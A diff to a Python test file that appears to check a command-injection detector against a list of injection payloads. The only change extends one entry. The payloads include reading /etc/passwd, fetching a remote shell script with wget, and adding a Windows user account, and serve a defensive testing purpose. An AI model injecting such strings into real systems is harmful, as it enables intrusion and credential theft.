@@ -14,7 +14,7 @@ def strongest(text: str) -> float:
 @pytest.mark.parametrize("text", [
     "; cat /etc/passwd", "| id", "`whoami`", "x`id`", "127.0.0.1 && ping -c 4 10.0.0.1", "x; ls -la",
     "name=$(uname -a)", "'; wget http://198.51.100.7/x.sh", "abc || sleep 5", "8.8.8.8|nslookup example.org",
-    "&& net user mallory /add", "| net view", "1;cat<<<x", "system('id')", "passthru(\"whoami\")",
+    "&& net user mallory /add", "| net view //fileserver", "1;cat<<<x", "system('id')", "passthru(\"whoami\")",
 ])
 def test_injections(text: str) -> None:
     assert strongest(text) >= 0.85, commands(text.lower())
